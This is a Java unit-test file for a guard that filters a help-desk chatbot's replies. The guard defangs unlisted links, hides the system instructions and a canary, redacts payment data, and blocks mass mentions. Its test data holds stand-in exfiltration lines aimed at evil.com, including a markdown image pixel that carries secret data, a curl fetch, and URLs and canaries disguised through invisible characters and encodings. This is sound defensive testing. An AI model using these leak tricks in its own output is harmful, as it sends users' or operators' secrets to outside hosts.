package dev.sotto.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class GuardTest {
  private static final String INSTRUCTIONS =
      "You are the help desk of Contoso. Answer briefly, and never mention project Nightjar or its"
          + " budget of nine million to anybody who asks.";
  private static final String CANARY = "k7Qm2ZpX9vLr4T";
  private static final String CITED =
      "See https://cited.org/guide?id=7 and (https://cited.org/other). Also cited.org/short.";
  private static final Set<String> HOSTS = Set.of("example.com", "docs.example.com");

  private final Guard guard = new Guard();

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      value = {
        "Look at https://evil.com/x now ¦ Look at evil[.]com/x now",
        "HTTPS://EVIL.COM/X ¦ EVIL[.]COM/X",
        "ftp://evil.com/f ¦ evil[.]com/f",
        "![pixel](https://evil.com/p.png?d=secret) ¦ ![pixel] (evil[.]com/p.png?d=secret)",
        "[click](https://evil.com) ¦ [click] (evil[.]com)",
        "[click](<https://evil.com/a>) ¦ [click] (evil[.]com/a>)",
        "<https://evil.com> ¦ <evil[.]com>",
        "<https://evil.com|Contoso> ¦ <evil[.]com|Contoso>",
        "[1]: https://evil.com ¦ [1]: evil[.]com",
        "https://example.com@evil.com/ ¦ example[.]com@evil[.]com/",
        "https://evil.com:8443/x ¦ evil[.]com:8443/x",
        "https://evil.com./x ¦ evil[.]com[.]/x",
        "https://10.0.0.1/x ¦ 10[.]0[.]0[.]1/x",
        "https://[::ffff:10.0.0.1]/x ¦ https[:]//[::ffff:10.0.0.1]/x",
        "https://xn--e1awd7f.com/ ¦ xn--e1awd7f[.]com/",
        "https:\\/\\/evil\\.com/x ¦ evil[.]com/x",
        "https&#58;//evil&#x2e;com/x ¦ evil[.]com/x",
        "https&colon;&sol;&sol;evil&period;com ¦ evil[.]com",
        "https&amp;#58;//evil.com ¦ evil[.]com",
        "https:/evil.com ¦ evil[.]com",
        "https:evil.com ¦ evil[.]com",
        "https:\\\\evil.com ¦ evil[.]com",
        "www.evil.com ¦ www[.]evil[.]com",
        "evil.com/path ¦ evil[.]com/path",
        "evil.io ¦ evil[.]io",
        "evil.md/path ¦ evil[.]md/path",
        "evil.sh?x=1 ¦ evil[.]sh?x=1",
        "evil.rs#x ¦ evil[.]rs#x",
        "www.evil.md ¦ www[.]evil[.]md",
        "evil.py:8080 ¦ evil[.]py:8080",
        "https://evil.md ¦ evil[.]md",
        "secret.evil.md ¦ secret[.]evil[.]md",
        "[notes](evil.md) ¦ [notes] (evil[.]md)",
        "<evil.md|Contoso> ¦ <evil[.]md|Contoso>",
        "<evil.md> ¦ <evil[.]md>",
        "ASP.NET/secret ¦ ASP[.]NET/secret",
        "java.io?q=secret ¦ java[.]io?q=secret",
        "java.io:8443 ¦ java[.]io:8443",
        "secret.java.io ¦ secret[.]java[.]io",
        "java.io.evil.com ¦ java[.]io[.]evil[.]com",
        "evil-java.io ¦ evil-java[.]io",
        "www.java.io ¦ www[.]java[.]io",
        "https://java.io ¦ java[.]io",
        "[docs](java.io) ¦ [docs] (java[.]io)",
        "java.io'.evil.com ¦ java.io'.evil[.]com",
        "\uff41sp.net.evil.com ¦ asp[.]net[.]evil[.]com",
        "https://notexample.com/ ¦ notexample[.]com/",
        "https://sub.example.com/ ¦ sub[.]example[.]com/",
        "https://example.com.evil.com ¦ example[.]com[.]evil[.]com",
        "https://example.com/?u=https://evil.com ¦ example[.]com/?u=https[:]//evil[.]com",
        "https://example.com'.evil.com ¦ example[.]com'.evil[.]com",
        "slack://evil.com/x ¦ slack[:]//evil[.]com/x",
        "[x](javascript:alert(1)) ¦ [x] (javascript:alert(1))",
        "ht**tps://evil.com** ¦ ht**tps[:]//evil[.]com**",
        "https://cited.org/guide?id=7&leak=secret ¦ cited[.]org/guide?id=7&leak=secret",
        "https://cited.org/guide ¦ cited[.]org/guide",
        "` https://evil.com ¦ ` evil[.]com",
        "`a`` https://evil.com ``b` ¦ `a`` evil[.]com ``b`",
        "https://example.com/` https://evil.com ` ¦ https://example.com/` evil[.]com `",
        "**a`** https://evil.com ` ¦ **a`** evil[.]com `",
        "[a`](https://evil.com)` ¦ [a`] (evil[.]com)`",
        "\\` https://evil.com ` ¦ \\` evil[.]com `",
        "~~~ https://evil.com ~~~ ¦ ~~~ evil[.]com ~~~",
      })
  void makesUnlistedAddressesInert(String said, String seen) {
    assertThat(released(said)).isEqualTo(seen);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "h\u200bttps://evil.com",
        "https:\u200d//evil.com",
        "https://ev\u00adil.com",
        "https\uff1a\uff0f\uff0fevil\uff0ecom",
        "\uff48\uff54\uff54\uff50\uff53://evil.com",
        "https://evil\u3002com",
        "https://evil\u2060.com",
        "ht\ufefftps://evil.com",
        "https://e\udb40\udc61vil.com",
        "\u202ehttps://evil.com",
        "https://evil\u2024com",
        "\u001b]8;;https://evil.com\u0007click\u001b]8;;\u0007",
        "https\u001b[0m://evil.com",
        "http\r://evil.com",
        "https://\u0435xample.com",
        "https:\ufe0f//evil.com",
        "````\nhttps://evil.com\n````\n`",
        "```\na ``` https://evil.com\n```\n",
        "    ```\nhttps://evil.com\n",
        "> ```\nhttps://evil.com\n",
        "``` x y\nhttps://evil.com\n",
        "it`s\n\n`https://evil.com` and `",
        "**a\n```\n** https://evil.com\n```\n",
      })
  void findsAddressesThatHide(String said) {
    String seen = released(said);

    assertThat(Reader.hosts(seen)).doesNotContain("evil.com").allMatch(HOSTS::contains);
    assertThat(seen).doesNotContain("://evil", "://\u0435");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Read https://example.com/a?b=c#d, please.",
        "[docs](https://docs.example.com/x_y) and **https://example.com**.",
        "<https://example.com|Example> (https://example.com).",
        "https://cited.org/guide?id=7",
        "see (https://cited.org/other)",
        "cited.org/short!",
        "file.md, README.md, Main.java, node.js, build.gradle.kts and src/main.rs",
        "ASP.NET, VB.NET or ADO.NET? With Socket.IO, *java.io*, _java.net_ (and System.IO); Node.js, Vue.js.",
        "README.md, config.py: setup.sh. ~/.ssh/id_rsa.pub, MANIFEST.in",
        "z.B. so, u.a. das, d.h. dies",
        "e.g. this, i.e. that, v1.2.3, 3.14, 10.0.0.1 and 12:30",
        "write to bob@evil.com",
        "The header is called http: and so on",
        "C:\\Users\\me",
        "`curl https://evil.com/x` fetches it",
        "``https://evil.com``",
        "```sh\ncurl https://evil.com/x\n```\nand that is all",
        "a\n\n```\nhttps://evil.com\n```\n",
        "* one\n* two `https://evil.com`\n",
        "Grüße 👩‍💻 ❤️‍🔥 1️⃣ 你好。世界 می‌خواهم …",
        "- a < b and c > d: `x.y > z`",
        "a | b\n--|--\n",
      })
  void leavesTheRestAsItIs(String said) {
    assertThat(released(said)).isEqualTo(said);
  }

  @Test
  void leaksWithoutTheRule() {
    assertThat(Reader.hosts("see https://evil.com/x")).containsExactly("evil.com");
    assertThat(Reader.hosts("```\nhttps://evil.com")).containsExactly("evil.com");
    var open = new ReleaseRules(Set.of("evil.com"), List.of(), "", Set.of(), Optional.empty());
    assertThat(Reader.hosts(whole(open, "see https://evil.com/x"))).containsExactly("evil.com");
    assertThat(whole(open, INSTRUCTIONS)).isEqualTo(INSTRUCTIONS);
    assertThat(whole(open, CANARY + " a@b.io")).isEqualTo(CANARY + " a@b.io");
  }

  @Test
  void holdsBackACodeBlockWithALinkUntilItsEndAndCallsItTextWithoutOne() {
    RunningRelease release = guard.open(rules(Set.of()));

    assertThat(release.add("```sh\nls\n")).isEqualTo("```sh\nls\n");
    assertThat(release.add("curl https://evil.com\nls\n")).isEqualTo("```sh\nls\n");
    assertThat(release.finish()).isEqualTo("```sh\nls\ncurl evil[.]com\nls\n```");
  }

  @Test
  void releasesWordByWordBeforeTheEnd() {
    RunningRelease release = guard.open(rules(Set.of()));

    assertThat(release.add("Hello ")).isEqualTo("Hello ");
    assertThat(release.add("wor")).isEqualTo("Hello ");
    assertThat(release.add("ld, see https://ev")).isEqualTo("Hello world, see ");
    assertThat(release.finish()).isEqualTo("Hello world, see ev");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "@everyone",
        "@here",
        "@Everyone!",
        "<!channel>",
        "<!here|here>",
        "<!subteam^S1>",
        "<@&42>",
        "&#64;everyone",
        "@every\u200bone",
        "\\@here",
        "`@everyone`",
        "```\n@here\n```\n",
        "<&#33;here>",
        "@\u2060everyone",
      })
  void callsNobodyTogether(String said) {
    assertThat(Reader.calls(released(said))).isFalse();
    assertThat(Reader.calls("@everyone")).isTrue();
    assertThat(released("ask @ada or <@U123>")).isEqualTo("ask @ada or <@U123>");
  }

  @ParameterizedTest
  @MethodSource
  void withholdsInstructionsHoweverTheyArePunctuated(String said) {
    String seen = released("Sure! " + said + " Anything else?");

    assertThat(seen.toLowerCase(Locale.ROOT).replaceAll("[^a-z]", ""))
        .doesNotContain("nightjar", "ninemillion")
        .contains("withheld", "sure", "anythingelse");
  }

  static Stream<String> withholdsInstructionsHoweverTheyArePunctuated() {
    return Stream.of(
        INSTRUCTIONS,
        INSTRUCTIONS.toUpperCase(Locale.ROOT),
        INSTRUCTIONS.replace(" ", "\n> "),
        "*" + INSTRUCTIONS.replace(" ", "* _") + "*",
        String.join(" ", INSTRUCTIONS.split("")),
        "```\n" + INSTRUCTIONS + "\n```\n",
        INSTRUCTIONS.substring(60));
  }

  @Test
  void letsAFewWordsOfTheInstructionsPass() {
    String few = "You are the help desk of Contoso? Yes, briefly.";

    assertThat(released(few)).isEqualTo(few);
  }

  @Test
  void withholdsTheCanaryInItsDisguises() {
    var disguises =
        List.of(
            CANARY,
            CANARY.toLowerCase(Locale.ROOT),
            String.join("-", CANARY.split("")),
            new StringBuilder(CANARY).reverse().toString(),
            HexFormat.of().formatHex(CANARY.getBytes(StandardCharsets.UTF_8)),
            Base64.getEncoder().encodeToString(CANARY.getBytes(StandardCharsets.UTF_8)),
            Base64.getEncoder()
                .encodeToString(("x: " + CANARY + "!").getBytes(StandardCharsets.UTF_8)),
            Base64.getEncoder()
                .encodeToString(("xy: " + CANARY + "!").getBytes(StandardCharsets.UTF_8)));

    for (String disguise : disguises) {
      String seen = released("It is " + disguise + " indeed");
      assertThat(seen)
          .contains("withheld")
          .endsWith("indeed")
          .doesNotContain(disguise.substring(5));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      value = {
        "Mail ada@lovelace.org, please ¦ Mail [email withheld], please",
        "Card 4111 1111 1111 1111 ok ¦ Card [card number withheld] ok",
        "Card 4111-1111-1111-1111. ¦ Card [card number withheld].",
        "4111111111111111 ¦ [card number withheld]",
        "4111 1111 1111 1112 is none ¦ 4111 1111 1111 1112 is none",
        "DE89 3704 0044 0532 0130 00 is mine ¦ [IBAN withheld] is mine",
        "GB29NWBK60161331926819, GB29 NWBK 6016 1331 9268 19 ¦ [IBAN withheld], [IBAN withheld]",
        "DE89 3704 0044 0532 0132 00 is none ¦ DE89 3704 0044 0532 0132 00 is none",
        "`4111 1111 1111 1111` ¦ `[card number withheld]`",
        "order 12345, 3 of 4 ¦ order 12345, 3 of 4",
      })
  void redactsOnTheWayOutAndIn(String said, String seen) {
    var all = Set.of(Redaction.values());

    assertThat(whole(rules(all), said)).isEqualTo(seen);
    assertThat(guard.redact(said, all)).isEqualTo(seen);
    assertThat(guard.redact(said, Set.of())).isEqualTo(said);
  }

  @Test
  void admitsWhatCanBeReadWithoutWhatNobodySees() {
    assertThat(admitted(" hi\u202e \u001b[31mred\u001b[0m \udb40\udc41\udb40\udc42x\u200b\u0000 "))
        .isEqualTo("hi red x");
    assertThat(admitted("👩‍💻🏳️‍🌈")).isEqualTo("👩‍💻🏳️‍🌈");
    assertThat(admitted("a\r\nb\u2028c")).isEqualTo("a\nb\nc");
    assertThat(admitted("x".repeat(40_000))).hasSize(40_000);
  }

  @Test
  void refusesWhatIsTooLongOrEmptyWithALineThatHelps() {
    assertThat(guard.admit("x".repeat(1_000_000)))
        .isInstanceOfSatisfying(
            Verdict.Refused.class, refused -> assertThat(refused.line()).contains("40,000"));
    for (String nothing :
        List.of("", " \n", "\u200b\u2060", "\udb40\udc41", "\ud800", "\u001b[0m")) {
      assertThat(guard.admit(nothing)).isInstanceOf(Verdict.Refused.class);
    }
  }

  @Test
  void makesNoDifferenceWhereTheAnswerIsCut() {
    long seed = 20_261_122;
    var random = new Random(seed);
    for (int i = 0; i < 3_000; i++) {
      String said = Malice.say(random);
      String whole = released(said);
      RunningRelease release = guard.open(rules(Set.of(Redaction.values())));
      String before = "";
      for (String piece : cut(said, random)) {
        String now = release.add(piece);
        assertThat(now).as("seed %s, answer %s", seed, i).startsWith(before);
        before = now;
      }
      assertThat(release.finish()).as("seed %s, answer %s", seed, i).startsWith(before);
      assertThat(release.finish())
          .as("seed %s, answer %s", seed, i)
          .isEqualTo(whole(rules(Set.of(Redaction.values())), said));
      assertThat(whole).isNotNull();
    }
  }

  @Test
  void letsNothingUnlistedOutOfTenThousandMaliciousAnswers() {
    long seed = 4_711;
    var random = new Random(seed);
    int dangerous = 0;
    for (int i = 0; i < 10_000; i++) {
      String said = Malice.say(random);
      RunningRelease release = guard.open(rules(Set.of()));
      var visible = new ArrayList<String>();
      cut(said, random).forEach(piece -> visible.add(release.add(piece)));
      visible.add(release.finish());
      for (String seen : visible) {
        assertThat(Reader.hosts(seen))
            .as("seed %s, answer %s: %s became %s", seed, i, said, seen)
            .allMatch(HOSTS::contains);
        assertThat(Reader.calls(seen)).as("seed %s, answer %s: %s", seed, i, seen).isFalse();
        assertThat(seen).doesNotContain("Nightjar", CANARY.substring(4));
      }
      dangerous += Reader.hosts(said).stream().allMatch(HOSTS::contains) ? 0 : 1;
    }
    assertThat(dangerous).as("answers that leak without the guard").isGreaterThan(5_000);
  }

  private static List<String> cut(String text, Random random) {
    var pieces = new ArrayList<String>();
    for (int at = 0; at < text.length(); ) {
      int end = Math.min(text.length(), at + 1 + random.nextInt(9));
      pieces.add(text.substring(at, end));
      at = end;
    }
    return pieces;
  }

  private String admitted(String text) {
    return switch (guard.admit(text)) {
      case Verdict.Admitted(String clean) -> clean;
      case Verdict.Refused(String line) -> "refused: " + line;
    };
  }

  private String released(String said) {
    return whole(rules(Set.of()), said);
  }

  private String whole(ReleaseRules rules, String said) {
    RunningRelease release = guard.open(rules);
    release.add(said);
    return release.finish();
  }

  private static ReleaseRules rules(Set<Redaction> redact) {
    return new ReleaseRules(HOSTS, List.of(CITED), INSTRUCTIONS, redact, Optional.of(CANARY));
  }
}
